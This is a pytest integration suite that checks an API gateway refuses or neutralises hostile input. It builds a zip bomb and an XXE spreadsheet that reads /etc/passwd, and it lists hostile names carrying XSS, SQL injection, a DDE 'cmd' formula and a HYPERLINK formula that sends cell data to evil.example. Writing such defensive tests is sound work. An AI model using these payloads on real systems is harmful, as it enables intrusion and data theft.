"""Attacks through the gateway, on the session's stack: bodies too big or nested too deep, text no
database stores, hostile spreadsheets, injection strings in names, and formula injection in
exports. Every one must be refused with a 4xx problem (never a 5xx, never a crash) or, for names,
kept as given and shown inert wherever it is printed. (Cross-tenant access, forged and expired
tokens and mass assignment: test_tenant_matrix.py; rate limits: gateway/tests/test_api_manners.py.)
"""
from __future__ import annotations

import io
import secrets
import subprocess
import uuid
import zipfile
from collections.abc import Iterator
from datetime import datetime, timezone
from typing import Any

import httpx
import openpyxl
import pytest

from bimtek_gateway.identity import Role, SubjectKind, issue_access_token
from bimtek_shared.contracts.envelope import new_event
from tests.integration.harness import REGENCY, System, participant_body, wait_until

pytestmark = pytest.mark.integration

API = "/api/v1"
IMPORTS = f"{API}/participant-imports"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MAX_BODY_BYTES = 1_048_576  # GatewaySettings.max_body_bytes
MAX_IMPORT_BYTES = 16_777_216  # GatewaySettings.max_import_bytes
HEADINGS = "kode_desa;nama_koperasi;nik;nama_lengkap;jenis_kelamin;tanggal_lahir;no_hp;jabatan"
# Names that try something: markup for the page, SQL for the databases, formulas for a spreadsheet
# (each trigger character, also behind a tab or a carriage return, as OWASP lists them).
HOSTILE_NAMES = [
    "<script>alert('bimtek')</script>",
    '"><img src=x onerror=alert(1)>',
    "Siti'); DROP TABLE participants;--",
    "Budi' OR '1'='1",
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+62 Budi",
    "-Siti Aminah",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Operations answering with a spreadsheet, and why each is safe from formula injection. An export
# of stored data added later fails test_every_spreadsheet_the_api_serves_is_known until its cells
# are neutralised and it is listed here with the test that proves it.
SPREADSHEET_OPERATIONS = {
    ("GET", f"{API}/participant-imports/template.{{file_format}}"):
        "the empty import template: fixed headings and an example row, no stored data",
}
SPREADSHEET_TYPES = ("text/csv", "spreadsheetml", "ms-excel", "opendocument.spreadsheet", "text/tab-separated")


def refused(answer: httpx.Response, status: int | tuple[int, ...], code: str | None = None) -> dict[str, Any]:
    statuses = (status,) if isinstance(status, int) else status
    assert answer.status_code in statuses, f"{answer.status_code}: {answer.text[:500]}"
    assert answer.headers["content-type"].startswith("application/problem+json"), answer.headers
    problem = answer.json()
    if code:
        assert problem["code"] == code, problem
    return problem


def still_serving(system: System) -> None:
    assert system.api.get("/healthz").status_code == 200
    assert system.api.get(f"{API}/participants", params={"limit": 1}).status_code == 200


# --------------------------------------------------------------------------- bodies


def test_bodies_over_the_limit_get_413_declared_or_streamed(running_system: System) -> None:
    api = running_system.api
    too_big = b'{"full_name": "' + b"a" * MAX_BODY_BYTES + b'"}'
    refused(api.post(f"{API}/participants", content=too_big, headers={"Content-Type": "application/json"}),
            413, "payload_too_large")

    def chunks() -> Iterator[bytes]:  # no Content-Length: only counting what arrives finds it
        yield b'{"full_name": "'
        for _ in range(MAX_BODY_BYTES // 65536 + 1):
            yield b"a" * 65536

    refused(api.post(f"{API}/participants", content=chunks(), headers={"Content-Type": "application/json"}),
            413, "payload_too_large")
    still_serving(running_system)


@pytest.mark.parametrize("path", [f"{API}/auth/token", f"{API}/auth/participant-token", f"{API}/participants",
                                  f"{API}/participant-imports", f"{API}/cooperatives", f"{API}/users"])
def test_json_nested_ten_thousand_deep_is_refused_without_a_crash(running_system: System, path: str) -> None:
    """Found by this test: the sign-in rate limiter read such a body and raised RecursionError (500)."""
    deep = "[" * 10_000 + "]" * 10_000
    for body in (deep, f'{{"username": {deep}, "password": "x", "full_name": {deep}}}'):
        answer = running_system.api.post(path, content=body, headers={"Content-Type": "application/json"})
        refused(answer, 422, "validation_failed")
    still_serving(running_system)


def test_text_with_a_nul_character_is_refused_not_a_server_error(running_system: System) -> None:
    """Found by the OpenAPI fuzz: PostgreSQL stores no U+0000, so such a name or title was a 500."""
    api = running_system.api
    for path, body in ((f"{API}/participants", participant_body(full_name="Siti\u0000Aminah")),
                       (f"{API}/programmes", {"title": "Bimtek\u0000", "topics": [{"topic": "a", "hours": 1}],
                                              "days_per_session": 1, "window_start": "2027-01-04",
                                              "window_end": "2027-01-29", "min_attendance_days": 1}),
                       (f"{API}/auth/token", {"username": "operator\u0000", "password": "x"})):
        problem = refused(api.post(path, json=body), 422, "validation_failed")
        assert problem["errors"] == [{"field": "body", "message": "text may not contain the NUL character (U+0000)"}]
    # The text "\u0000" (an escaped backslash, then u0000) is no NUL character: kept as written.
    answer = api.post(f"{API}/participants", json=participant_body(full_name="Siti \\u0000 Aminah"))
    assert answer.status_code == 201 and answer.json()["full_name"] == "Siti \\u0000 Aminah", answer.text


def test_bodies_the_framework_cannot_parse_are_problems_too(running_system: System) -> None:
    """Found by the OpenAPI fuzz: these were 400 {"detail": ...}, not problem documents."""
    api = running_system.api
    refused(api.post(f"{API}/participants", content=b'{"full_name": "\xff\xfe"}',
                     headers={"Content-Type": "application/json"}), 422, "validation_failed")
    too_many_fields = {f"field{n}": "x" for n in range(8)}
    refused(api.post(IMPORTS, files={"file": ("a.csv", b"x", "text/csv")}, data=too_many_fields),
            422, "validation_failed")


def test_a_time_filter_takes_iso_8601_only(running_system: System) -> None:
    """Found by the OpenAPI fuzz: `registered_until=0.5` was read as half a second after 1970."""
    for value in ("0.5", "1700000000"):
        refused(running_system.api.get(f"{API}/participants", params={"registered_until": value}),
                422, "validation_failed")
    assert running_system.api.get(f"{API}/participants", params={
        "registered_until": "2025-10-01T00:00:00+07:00"}).status_code == 200


# --------------------------------------------------------------------------- hostile spreadsheets


def dry_run_import(system: System, file_name: str, content: bytes) -> dict[str, Any]:
    """Upload as a dry run (nothing is ever imported) and wait for the checked job."""
    answer = system.api.post(IMPORTS, files={"file": (file_name, content, XLSX if file_name.endswith("xlsx")
                                                      else "text/csv")}, data={"dry_run": "true"}, timeout=60)
    assert answer.status_code == 202, answer.text
    location = answer.headers["location"]

    def done() -> dict[str, Any] | None:
        job = system.api.get(location).json()
        return job if job["status"] in ("succeeded", "failed") else None

    return wait_until(done, timeout=90, interval=0.3, message=f"{file_name}: the job did not finish")


def error_codes(job: dict[str, Any]) -> list[tuple[str, dict[str, Any] | None]]:
    return [(error["code"], error.get("params")) for error in job["errors"]]


def xlsx_bytes(rows: list[list[Any]]) -> bytes:
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def zip_bomb() -> bytes:
    """A valid XLSX whose sheet unpacks to 64 MB of zeros from about 64 KB (1,000 times)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADINGS.split(";")]))) as honest, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        for item in honest.infolist():
            bomb.writestr(item, honest.read(item))
        bomb.writestr("xl/media/padding.bin", b"\0" * (64 * 1024 * 1024))
    return out.getvalue()


def xxe_workbook() -> bytes:
    """An XLSX whose sheet declares an external entity reading /etc/passwd, and uses it."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes([HEADINGS.split(";"), ["placeholder"]]))) as honest, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as hostile:
        for item in honest.infolist():
            data = honest.read(item)
            if item.filename in ("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"):
                data = data.replace(b"?>", b'?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1)
                data = data.replace(b">placeholder<", b">&xxe;<")
            hostile.writestr(item, data)
    return out.getvalue()


def test_hostile_spreadsheets_are_refused_per_file_and_nothing_is_read_from_the_server(
    running_system: System,
) -> None:
    honest = xlsx_bytes([HEADINGS.split(";")])
    garbage = secrets.token_bytes(4096).replace(b"PK", b"pk")  # no XLSX signature anywhere
    unreadable = "import_file_unreadable"
    expectations: dict[str, tuple[str, bytes, str, str | None]] = {
        "zip bomb": ("bom.xlsx", zip_bomb(), unreadable, "xlsx_too_large_unpacked"),
        "truncated zip": ("terpotong.xlsx", honest[: len(honest) // 2], unreadable, "not_xlsx"),
        "not a zip at all": ("palsu.xlsx", b"kode_desa;nik\n35.17.09.2001;1\n", unreadable, "not_xlsx"),
        "external entity (XXE)": ("xxe.xlsx", xxe_workbook(), unreadable, "not_xlsx"),
        "binary garbage as CSV": ("sampah.csv", garbage, unreadable, "not_utf8"),
        "wrong headings": ("salah.csv", "nama;umur\nSiti;40\n".encode(), "import_column_missing", None),
    }
    failures = []
    for what, (file_name, content, code, reason) in expectations.items():
        job = dry_run_import(running_system, file_name, content)
        codes = error_codes(job)
        if job["status"] != "failed" or (code, {"file_format": "XLSX" if file_name.endswith("xlsx") else "CSV",
                                                "reason": reason} if reason else None) not in [
                (found, params if reason else None) for found, params in codes]:
            failures.append(f"{what}: {job['status']} {codes}")
        if "root:" in str(job):
            failures.append(f"{what}: the job shows the server's /etc/passwd")
    assert not failures, "\n".join(failures)
    still_serving(running_system)


def test_a_file_over_the_upload_limit_gets_413(running_system: System) -> None:
    """More than 16 MB (about 20,000 rows): refused before it is read. (More than 100,000 rows in
    less is refused by the check, registration/tests/unit/test_bulk_import.py::test_too_many_rows:
    100,000 rows of garbage take seconds to check, too long for this suite.)"""
    huge = HEADINGS.encode() + b"\n" + b"35.17.09.2001;;3517094107850002;Siti;P;01-07-1985;;ketua\n" * 300_000
    assert len(huge) > MAX_IMPORT_BYTES
    answer = running_system.api.post(IMPORTS, files={"file": ("besar.csv", huge, "text/csv")}, timeout=60)
    refused(answer, 413, "payload_too_large")


# --------------------------------------------------------------------------- names that try something


@pytest.fixture(scope="module")
def hostile_participants(system: System) -> dict[str, str]:
    """Participants of regency A named HOSTILE_NAMES (name -> id), known to certificates."""
    ids = {}
    for name in HOSTILE_NAMES:
        answer = system.api.post(f"{API}/participants", json=participant_body(full_name=name))
        assert answer.status_code == 201, answer.text
        ids[name] = answer.json()["id"]
    wait_until(lambda: system.count("certificates", "roster", "participant_id = ANY(%s::uuid[])",
                                    (list(ids.values()),)) == len(ids), timeout=60,
               message="certificates never learnt of the participants")
    return ids


def test_names_are_kept_as_given_and_every_table_survives(
    running_system: System, hostile_participants: dict[str, str]
) -> None:
    """Stored and answered as written (leading and trailing blanks aside, which every text field
    drops), in the participant's record and in the data subject export alike: never run as SQL."""
    api, admin = running_system.api, admin_of(running_system)
    for name, participant_id in hostile_participants.items():
        assert api.get(f"{API}/participants/{participant_id}").json()["participant"]["full_name"] == name.strip()
        exported = api.get(f"{API}/participants/{participant_id}/export", headers=admin)
        assert exported.status_code == 200, exported.text
        assert name.strip() in set(strings_in(exported.json())), exported.text
    assert running_system.count("registration", "participants", "id = ANY(%s::uuid[])",
                                (list(hostile_participants.values()),)) == len(HOSTILE_NAMES)


def strings_in(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


def admin_of(system: System) -> dict[str, str]:
    token, _ = issue_access_token(system.gateway_settings(), user_id=str(uuid.uuid4()),
                                  role=Role.REGENCY_ADMIN.value, regency=REGENCY, kind=SubjectKind.USER)
    return {"Authorization": f"Bearer {token}"}


def test_names_are_inert_on_the_verification_page_and_literal_in_the_pdf(
    running_system: System, hostile_participants: dict[str, str]
) -> None:
    system = running_system
    programme, session = str(uuid.uuid4()), str(uuid.uuid4())
    system.publish_as("scheduling", [new_event("participant.completed", {
        "participant_id": participant_id, "session_id": session, "programme_id": programme,
        "programme_title": "Bimtek uji <b>serangan</b>", "session_days": ["2026-03-02"], "days_attended": 1,
        "min_attendance_days": 1, "jp_total": 8, "completed_at": datetime.now(timezone.utc).isoformat()},
        regency=REGENCY, correlation_id="test-attacks") for participant_id in hostile_participants.values()])
    issued = wait_until(lambda: dict(system.query(
        "certificates", "SELECT participant_id::text, id::text || ' ' || public_id FROM certificates "
        "WHERE programme_id = %s", (programme,))) if system.count(
        "certificates", "certificates", "programme_id = %s", (programme,)) == len(HOSTILE_NAMES) else None,
        timeout=60, message="certificates were not issued")
    failures = []
    for name, participant_id in hostile_participants.items():
        certificate_id, public_id = issued[participant_id].split(" ")
        page = system.api.get(f"{API}/public/certificates/{public_id}/page", headers={"Authorization": ""})
        assert page.status_code == 200, page.text
        if "<script>" in page.text or "<img" in page.text or "<b>" in page.text:
            failures.append(f"{name!r}: markup reached the page unescaped")
        # Rendered on demand in worker processes: a first call on a busy machine may time out (504).
        pdf = wait_until(lambda: (answer := system.api.get(f"{API}/certificates/{certificate_id}/document",
                                                           timeout=30)).status_code == 200 and answer,
                         timeout=90, interval=1, message=f"{name!r}: the PDF never came")
        # -layout: plain pdftotext joins a line ending in "-" to the next, as if hyphenated.
        text = subprocess.run(["pdftotext", "-layout", "-", "-"], input=pdf.content, capture_output=True,
                              check=True).stdout.decode()
        if " ".join(name.split()) not in " ".join(text.split()):  # the PDF may wrap a long name
            failures.append(f"{name!r}: not printed literally in the PDF")
    assert not failures, "\n".join(failures)


# --------------------------------------------------------------------------- formula injection


def test_every_spreadsheet_the_api_serves_is_known(running_system: System) -> None:
    """Formula injection lives in exported spreadsheets. The API exports stored data as JSON (the
    data subject export: the value as stored, which no spreadsheet evaluates) and PDFs (which
    evaluate nothing); the only spreadsheet it serves is the empty import template. A new
    spreadsheet answer fails here until it neutralises cells starting with = + - @ tab or CR."""
    document = running_system.api.get("/openapi.json").json()
    serving = {(method.upper(), path) for path, item in document["paths"].items() for method, operation
               in item.items() if isinstance(operation, dict) for answer in operation.get("responses", {}).values()
               for media_type in answer.get("content", {}) if any(kind in media_type for kind in SPREADSHEET_TYPES)}
    assert serving == set(SPREADSHEET_OPERATIONS), f"spreadsheet answers: {sorted(serving)}"
    for file_format in ("csv", "xlsx"):
        template = running_system.api.get(f"{IMPORTS}/template.{file_format}")
        assert template.status_code == 200, template.text
        for cell in cells_of(template.content, file_format):
            assert not str(cell).startswith(FORMULA_TRIGGERS), f"template.{file_format}: {cell!r}"


def cells_of(content: bytes, file_format: str) -> Iterator[Any]:
    if file_format == "csv":
        for line in content.decode("utf-8-sig").splitlines():
            yield from line.split(";")
        return
    workbook = openpyxl.load_workbook(io.BytesIO(content), read_only=True)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(values_only=True):
            yield from (cell for cell in row if cell is not None)
